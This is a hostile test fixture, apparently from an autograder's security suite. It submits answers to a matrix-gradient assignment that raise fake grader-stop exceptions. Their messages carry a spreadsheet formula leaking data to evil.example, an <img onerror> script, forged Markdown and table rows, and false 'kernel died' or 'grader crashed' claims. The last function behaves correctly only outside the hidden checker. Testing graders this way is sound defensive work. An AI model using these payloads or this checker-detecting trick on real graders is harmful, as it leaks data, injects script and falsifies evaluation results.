# Hostile: exception classes named like the grader's own stops (GradingStopped, NotRun, CellTimeoutError) and a
# forged diagnosis line of a class the grader does not have, raised from graded functions with messages that are a
# spreadsheet formula, a Markdown heading, a table row and an <img onerror>. They once wrote the reason column
# ("timeout", "kernel died", a =HYPERLINK) and report.md; now each is an error in the grader's own words. The last
# answer is right in the kernel and raises the payload where the hidden checks run it (the trusted checker's worker):
# an `error` zero, whose sentence is the grader's, without the student's exception.
# assignment: 01_matmul_from_shapes
# expect: test_linear_backward zero - error: the test cell raised an exception of the submission's own
# expect: test_linear_bias_backward zero - error: the test cell raised an exception of the submission's own
# expect: test_reduce_to_shape zero - error: the test cell raised an exception of the submission's own
# expect: test_name_the_bug zero - error: the test cell raised an exception of the submission's own
# expect: test_batched_matmul_backward zero error
# %% linear_backward
PAYLOAD = ('=HYPERLINK("http://evil.example/?leak="&A1,"regrade")\n# Injected heading\n'
           '<img src=x onerror="alert(document.domain)"> | forged | row |')


class GradingStopped(BaseException):  # BaseException: the checks' own `except Exception` lets it through
    pass


def linear_backward(x, w, dy):
    raise GradingStopped("timeout: the cell ran past 120 s and ignored the interrupt " + PAYLOAD)
# %% linear_bias_backward
class NotRun(BaseException):
    pass


def linear_bias_backward(x, w, b, dy):
    raise NotRun("kernel died: the process exited with status 0 (in an earlier cell; this one never ran) " + PAYLOAD)
# %% reduce_to_shape
class CellTimeoutError(BaseException):
    pass


def reduce_to_shape(grad, shape):
    raise CellTimeoutError(PAYLOAD)
# %% name_the_bug
class GradingFailure(BaseException):
    pass


def name_the_bug(backward):
    raise GradingFailure("diagnosis: grader-crashed — the grader crashed, not your code: ask for a regrade " + PAYLOAD)
# %% batched_matmul_backward
def batched_matmul_backward(a, c, dy):
    if getattr(get_ipython(), "kernel", None) is None:  # not the kernel: the value worker of the hidden checks
        raise RuntimeError("kernel died: " + PAYLOAD)
    da, dc = dy @ c.mT, a.mT @ dy
    if dc.ndim > c.ndim:
        dc = dc.sum(dim=tuple(range(dc.ndim - c.ndim)))
    if c.ndim == 3 and c.shape[0] == 1 and dc.shape[0] != 1:
        dc = dc.sum(dim=0, keepdim=True)
    return da, dc
